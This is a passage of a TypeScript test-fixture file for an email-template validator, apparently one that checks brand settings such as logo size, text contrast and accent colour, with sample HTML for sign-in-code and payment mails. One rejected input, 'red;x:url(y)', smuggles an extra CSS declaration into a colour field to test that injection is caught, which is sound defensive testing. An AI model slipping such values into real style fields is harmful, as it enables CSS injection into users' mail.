      logo: png(`\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\x01\0\0\0\x01\0\0${"\0".repeat(40)}\0\0\0\0IEND\xae\x42\x60\x82`),
    },
    field: "logo",
    reason: "must be at most 2000 pixels",
  },
  {
    name: "a logo of 100 KB",
    change: { logo: png("x".repeat(102_400)) },
    field: "logo",
    reason: "must be at most",
  },
  {
    name: "text that nobody can read",
    change: { background_color: "#ffffff", text_color: "#eeeeee" },
    field: "text_color",
    reason: "must have a contrast of at least 4.5 with the background: it has 1.1",
  },
  {
    name: "CSS in a color",
    change: { accent_color: "red;x:url(y)" },
    field: "accent_color",
    reason: "must be at most 7 characters",
  },
];

/** A template that is accepted. */
export const goodTemplate = {
  subject: "Your {{brand}} code",
  text: "Your {{brand}} code is {{code}}. It expires in {{time}}.",
} as const;

/** Mails whose HTML is accepted, as designers write it. */
export const goodHtml: readonly string[] = [
  // A receipt: cells beside each other, in small print and large.
  `<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="border-collapse: collapse; max-width: 480px">
  <tr><td bgcolor="#102030" style="padding: 24px 32px; color: #fff; font-size: 18px; font-weight: 600">{{brand}}</td></tr>
  <tr><td style="padding: 24px 16px"><h1 style="margin: 0 0 8px; font-size: 24px; line-height: 1.2">Your code</h1>
    <p style="margin: 0 auto; font-size: 32px; line-height: 1.25; letter-spacing: 6px; text-align: center">{{code}}</p></td></tr>
  <tr><td><table width="100%" style="table-layout: fixed"><tr><th align="left">Valid for</th><td align="right">{{time}}</td></tr></table></td></tr>
  <tr><td style="border-top: 1px solid #ddd">&nbsp;</td></tr>
  <tr><td style="color: #767676; font-size: 11px"><small>You asked for it at {{brand}}. No. 4.5, e.g. today.</small></td></tr>
</table>`,
  // The logo in a row, beside a cell that keeps the space.
  `${columns}<tr><td>${logo}</td><td>&nbsp;</td></tr></table><p>{{code}}</p>`,
  `<h1><b>${logo}</b></h1><div>{{code}}</div>`,
  // Numbers in the row of a code, with words between them.
  `${columns}<tr><td>Tel. +49 30 901820 (Acme)<br>Code:</td><td>{{code}}<br>Valid for {{time}}</td></tr></table>`,
  `${columns}<tr><td>12 items</td><td><b>{{code}}</b></td></tr><tr><td>12</td><td>10827 Berlin</td></tr></table>`,
  '<div dir="rtl"><p>{{brand}}: {{code}}</p><p>{{minutes}} <i>x</i> @home</p></div>',
  // A card in the middle: a logo, a colored head, a large code, a foot.
  `<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#eef1f4" style="border-radius: 12px">
  <tr><td align="center" style="padding: 24px 16px">
    <img src="cid:logo" alt="Acme" width="120" height="40" style="display: block">
    <table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="max-width: 400px; margin: 24px auto 0; border: 1px solid #d5dae0; border-radius: 8px">
      <tr><td bgcolor="#0b5fff" style="padding: 16px 24px; color: #ffffff; font-family: Georgia, serif; font-size: 20px; border-radius: 8px 8px 0 0">{{brand}}</td></tr>
      <tr><td style="padding: 24px">
        <p style="margin: 0 0 16px">Enter this code to sign in:</p>
        <div style="margin: 0 0 16px; padding: 16px 8px; background-color: #102a43; color: #ffffff; border-radius: 8px; font-family: Menlo, 'Courier New', monospace; font-size: 32px; line-height: 1.25; font-weight: 700; text-align: center">{{code}}</div>
        <ul style="margin: 0"><li>It is valid for <b>{{time}}</b>.</li><li>Nobody else needs it.</li></ul>
      </td></tr>
    </table>
    <hr style="margin: 24px 0 16px; border: 0; border-top: 1px solid #c5ccd3">
    <p style="margin: 0; font-size: 12px; color: #52606d">You asked for this mail at {{brand}}.<br>Acme GmbH, Hauptstr. 12, 10827 Berlin, HRB 123456 B, © 2026</p>
  </td></tr>
</table>`,
];

/** The HTML of a mail that approves a payment. */
export const goodPaymentHtml = `<div style="padding: 24px; border: 2px solid #102a43; border-radius: 8px">
  <h2 style="margin: 0 0 16px">Approve a payment</h2>
  <table role="presentation" width="100%" cellpadding="4" cellspacing="0" style="table-layout: fixed; border-collapse: collapse">
    <tr><td style="border-bottom: 1px solid #d5dae0">To</td><td align="right" style="border-bottom: 1px solid #d5dae0"><b>{{payee}}</b></td></tr>
    <tr><td>Amount</td><td align="right"><b>{{amount}}</b></td></tr>
  </table>
  <p style="margin: 24px 0 0; padding: 12px; background-color: #eef1f4; font-size: 28px; letter-spacing: 4px; text-align: center">{{code}}</p>
</div>`;
